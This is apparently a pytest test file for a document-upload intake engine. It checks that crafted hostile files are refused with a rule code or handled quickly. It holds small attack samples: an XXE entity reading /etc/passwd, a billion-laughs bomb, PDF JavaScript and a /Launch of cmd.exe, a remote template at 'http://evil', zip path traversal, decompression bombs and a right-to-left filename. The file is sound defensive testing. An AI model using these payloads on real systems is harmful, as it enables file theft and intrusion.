"""Hostile files: each is refused with a sentence and a remedy, or made harmless; nothing is raised."""

from __future__ import annotations

import random
import time
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jiju.core.findings import Finding
from jiju.engines.intake import Taken, Upload, take_in
from tests.engines import made_files as made

paper, packed, document = made.pdf, made.packed, made.docx
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
EXE = b"MZ\x90\0" + b"\0" * 60
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]><x>&b;</x>'
SIXTEEN = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode("utf-16")
TEMPLATE = b'<R><Relationship Type="x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></R>'
SCRIPT = b"7 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj"
ODD = packed(SCRIPT).replace(b"stream\n", b"stream\r", 1)
ZIPPED = made.package({"a.txt": b"x"})
ATTACKS: dict[str, tuple[str, bytes, str]] = {
    "nothing in it": ("a.pdf", b"", "FILE-EMPTY"),
    "no ending": ("README", paper(), "FILE-KIND"),
    "a program": ("a.exe", EXE, "FILE-KIND"),
    "a program named as a paper": ("a.pdf", EXE, "FILE-KIND"),
    "a double ending": ("工资表.pdf.exe", paper(), "FILE-KIND"),
    "a double ending the other way": ("工资表.exe.pdf", paper(), "FILE-NAME"),
    "a name that reads backwards": ("工资表\u202efdp.exe", EXE, "FILE-KIND"),
    "svg": ("a.svg", SVG, "FILE-KIND"),
    "svg named as a picture": ("a.png", SVG, "FILE-KIND"),
    "html named as a picture": ("a.jpg", HTML, "FILE-KIND"),
    "html named as a paper": ("a.pdf", HTML, "FILE-KIND"),
    "a paper after something else": ("a.pdf", HTML + paper(), "FILE-KIND"),
    "a zip named as a document": ("a.docx", ZIPPED, "FILE-KIND"),
    "a workbook named as a document": ("a.docx", made.xlsx(), "FILE-KIND"),
    "a macro document": ("a.docm", document(), "FILE-KIND"),
    "an old workbook": ("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "FILE-KIND"),
    "a paper that is a zip as well": ("a.pdf", paper() + ZIPPED + b"%%EOF", "FILE-TWO-IN-ONE"),
    "a document after a picture": ("a.docx", made.jpg() + document(), "FILE-KIND"),
    "a paper cut off": ("a.pdf", paper()[:-10] + b" " * 2000, "FILE-BROKEN"),
    "a photograph cut off": ("a.jpg", made.jpg()[:-2], "FILE-BROKEN"),
    "a photograph without points": ("a.jpg", b"\xff\xd8\xff\xe0\0\x02\xff\xd9", "FILE-BROKEN"),
    "a segment beyond the end": ("a.jpg", b"\xff\xd8\xff\xe0\xff\xff", "FILE-BROKEN"),
    "a picture cut off": ("a.png", made.png()[:-5], "FILE-BROKEN"),
    "a picture whose sums are wrong": ("a.png", made.png()[:20] + b"\x01" + made.png()[21:], "FILE-BROKEN"),
    "a picture of endless points": ("a.png", made.png(60_000, 60_000), "FILE-PIXELS"),
    "a photograph of endless points": ("a.jpg", made.jpg(width=65_000, height=65_000), "FILE-PIXELS"),
    "a package cut off": ("a.docx", document()[:-30], "FILE-BROKEN"),
    "a package whose sum is wrong": ("a.docx", document().replace(b"PK\x01\x02", b"PK\x01\x03", 1), "FILE-BROKEN"),
    "climbing out": ("a.docx", document(None, ("../../evil.xml", b"<x/>")), "FILE-UNSAFE"),
    "from the root": ("a.docx", document(None, ("/etc/evil.xml", b"<x/>")), "FILE-UNSAFE"),
    "a link": ("a.docx", document(None, (made.link(), b"/etc/passwd")), "FILE-UNSAFE"),
    "a part in capitals again": ("a.docx", document(None, ("WORD/document.xml", b"<x/>")), "FILE-TWICE"),
    "a password": ("a.docx", made.locked(), "FILE-LOCKED"),
    "a bomb": ("a.docx", document({"word/bomb.xml": b"\0" * 30_000_000}), "FILE-BOMB"),
    "a great bomb": ("a.docx", document({"word/bomb.xml": b"0" * 60_000_000}), "FILE-BOMB"),
    "thousands of parts": ("a.docx", document({f"word/{n}.xml": b"" for n in range(2000)}), "FILE-MEMBERS"),
    "macros": ("a.docx", document({"word/vbaProject.bin": b"x"}), "FILE-MACRO"),
    "macros by another name": ("a.docx", document({"word/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "FILE-MACRO"),
    "macros by their type": ("a.docx", document({"[Content_Types].xml": b'<T C="macroEnabled"/>'}), "FILE-MACRO"),
    "a control": ("a.docx", document({"word/activeX/activeX1.xml": b"<x/>"}), "FILE-MACRO"),
    "a program inside": ("a.docx", document({"word/media/image1.png": EXE}), "FILE-MACRO"),
    "a program by its name": ("a.docx", document({"word/run.exe": b"x"}), "FILE-UNSAFE"),
    "a package inside": ("a.docx", document({"word/embeddings/a.bin": ZIPPED}), "FILE-INSIDE"),
    "a bomb of points inside": ("a.docx", document({"word/media/a.png": made.png(60_000, 60_000)}), "FILE-PIXELS"),
    "entities": ("a.docx", document({"word/document.xml": XXE}), "FILE-UNSAFE"),
    "a billion laughs": ("a.ofd", made.package(made.OFD | {"Doc_0/Document.xml": LAUGHS}), "FILE-UNSAFE"),
    "entities in sixteen bits": ("a.docx", document({"word/document.xml": SIXTEEN}), "FILE-UNSAFE"),
    "a template from elsewhere": ("a.docx", document({"word/_rels/settings.xml.rels": TEMPLATE}), "FILE-LINKS"),
    "a script": ("a.pdf", paper(SCRIPT), "FILE-SCRIPT"),
    "a script spelt in numbers": ("a.pdf", paper(b"7 0 obj<</S/J#61vaScr#69pt>>endobj"), "FILE-SCRIPT"),
    "a script in packed objects": ("a.pdf", paper(packed(SCRIPT)), "FILE-SCRIPT"),
    "a script in plain packed objects": ("a.pdf", paper(packed(SCRIPT, packing=b"")), "FILE-SCRIPT"),
    "a launch": ("a.pdf", paper(b"7 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "FILE-SCRIPT"),
    "a file in a paper": ("a.pdf", paper(b"7 0 obj<</Type/EmbeddedFile>>stream\nx\nendstream endobj"), "FILE-INSIDE"),
    "a locked paper": ("a.pdf", paper(tail=b"trailer<</Root 1 0 R/Encrypt 9 0 R>>\n"), "FILE-LOCKED"),
    "packed twice": ("a.pdf", paper(packed(b"x", packing=b"/Filter[/LZWDecode/FlateDecode]")), "FILE-HIDDEN"),
    "packed by reference": ("a.pdf", paper(packed(b"x", packing=b"/Filter 9 0 R")), "FILE-HIDDEN"),
    "packed with a predictor": ("a.pdf", paper(packed(b"x", b"/DecodeParms<</Predictor 12>>")), "FILE-HIDDEN"),
    "a head written to be overlooked": ("a.pdf", paper(packed(SCRIPT, b"/X(obj)")), "FILE-HIDDEN"),
    "a stream begun in an odd way": ("a.pdf", paper(ODD), "FILE-HIDDEN"),
    "packed objects damaged": ("a.pdf", paper(packed(SCRIPT).replace(b"x\x9c", b"zz", 1)), "FILE-BROKEN"),
    "packed objects as a bomb": ("a.pdf", paper(packed(b" " * 60_000_000)), "FILE-BOMB"),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hostile_file_is_refused_within_two_seconds(attack: str) -> None:
    name, data, rule = ATTACKS[attack]
    began = time.process_time()
    out = take_in(Upload(name, data))
    assert isinstance(out, Finding)
    assert out.rule == rule
    assert str(out.says)
    assert str(out.remedy)
    assert time.process_time() - began < 2


NOISE = random.Random(7).randbytes(600_000)  # keeps a package from looking like a bomb
SLOW: dict[str, tuple[str, bytes]] = {
    "starts of streams": ("a.pdf", paper(b"stream\n" * 1_400_000)),
    "heads of object streams": ("a.pdf", paper(b"\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" * 100_000)),
    "empty object streams": ("a.pdf", paper(b"\n" + packed(b"") * 100_000)),
    "names of object streams": ("a.pdf", paper(b"1 0 obj<<" + b"/ObjStm" * 1_400_000)),
    "short names": ("a.pdf", paper(b"/A" * 5_000_000)),
    "letters as numbers": ("a.pdf", paper(b"/#4a#61#76" * 1_000_000)),
    "tags": ("a.docx", document({"word/document.xml": b' <w:ins w:author="a"/>' * 300_000, "word/a.bin": NOISE})),
    "authors outside of tags": ("a.docx", document({"word/document.xml": b' author="a"' * 3_000_000, "a.bin": NOISE})),
    "an author without end": (
        "a.docx",
        document({"word/document.xml": b' author="' + b"a" * 9_000_000, "a.bin": NOISE}),
    ),
    "open tags": ("a.docx", document({"word/document.xml": b"<author " * 3_000_000, "a.bin": NOISE})),
    "spaces": ("a.docx", document({"word/document.xml": b"<a author" + b" " * 9_000_000 + b">", "a.bin": NOISE})),
    "relations": ("a.docx", document({"word/_rels/a.rels": b"<Relationship " * 2_000_000, "a.bin": NOISE})),
    "thumbnails": ("a.docx", document({"_rels/.rels": b"<R /thumbnail'" * 2_000_000, "a.bin": NOISE})),
    "nested makers": ("a.ofd", made.package(made.OFD | {"OFD.xml": b"<Author>" * 130_000, "a.bin": NOISE})),
    "segments": ("a.jpg", made.jpg(*[made.segment(0xFE, b"")] * 2_000_000)),
    "chunks": ("a.png", made.png(2, 2, *[made.chunk(b"tEXt", b"")] * 800_000)),
}


@pytest.mark.parametrize("attack", SLOW)
def test_a_file_that_is_made_to_be_slow_is_answered_all_the_same(attack: str) -> None:
    began = time.process_time()
    assert isinstance(take_in(Upload(*SLOW[attack])), Taken | Finding)
    assert time.process_time() - began < 6  # quadratic patterns took minutes; a loaded machine counts double


def test_an_object_stream_that_seems_to_end_early_is_refused() -> None:
    early = zlib.compress(b"endstream" + SCRIPT, 0)
    body = b"5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + early + b"\nendstream endobj"
    out = take_in(Upload("a.pdf", paper(body.replace(b"JavaScript", b"JavaScripT"))))
    assert isinstance(out, Finding)


def test_a_duplicate_part_is_refused() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = document(None, ("word/document.xml", b"<x/>"))
    out = take_in(Upload("a.docx", data))
    assert isinstance(out, Finding)
    assert out.rule == "FILE-TWICE"


def test_what_hangs_on_a_picture_is_cut_off() -> None:
    for name, data in (("a.jpg", made.jpg()), ("a.png", made.png())):
        out = take_in(Upload(name, data + ZIPPED))
        assert isinstance(out, Taken)
        assert out.data == data


def test_what_hangs_on_a_package_is_cut_off() -> None:
    out = take_in(Upload("a.docx", document() + b"\0" * 40))
    assert isinstance(out, Taken | Finding)
    clean = take_in(Upload("a.docx", document()))
    assert isinstance(clean, Taken)
    assert isinstance(out, Finding) or out.data == clean.data


def test_a_link_that_a_reader_clicks_is_no_attack() -> None:
    rel = (
        b'<Relationships><Relationship Type="http://schemas/relationships/hyperlink" Target="https://www.jl.gov.cn"'
        b' TargetMode="External"/></Relationships>'
    )
    assert isinstance(take_in(Upload("a.docx", document({"word/_rels/document.xml.rels": rel}))), Taken)


def test_words_between_points_are_no_attack() -> None:
    """A paper whose packed pictures happen to hold short names by chance is taken."""
    noise = zlib.compress(b"/JS /AA /OpenAction " * 100, 0)
    body = b"7 0 obj<</Subtype/Image/Filter/FlateDecode>>stream\n" + noise + b"\nendstream endobj"
    assert isinstance(take_in(Upload("a.pdf", paper(body))), Taken)


@settings(deadline=None)  # a paper is taken apart by a process of its own
@given(st.sampled_from(sorted(made.SOUND)), st.data())
def test_a_damaged_file_is_answered_and_never_raises(name: str, data: st.DataObject) -> None:
    whole = bytearray(made.SOUND[name])
    for at in data.draw(st.lists(st.integers(0, len(whole) - 1), min_size=1, max_size=8)):
        whole[at] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(whole)))
    assert isinstance(take_in(Upload(name, bytes(whole[:cut]))), Taken | Finding)
    assert isinstance(take_in(Upload(name, bytes(whole))), Taken | Finding)


def test_a_part_that_says_it_is_smaller_than_it_is_unpacks_to_no_more() -> None:
    info = zipfile.ZipInfo("word/liar.xml")
    data = bytearray(document(None, (info, b"A" * 5000)))
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    out = take_in(Upload("a.docx", bytes(data)))
    assert isinstance(out, Finding)
    assert out.rule == "FILE-BROKEN"
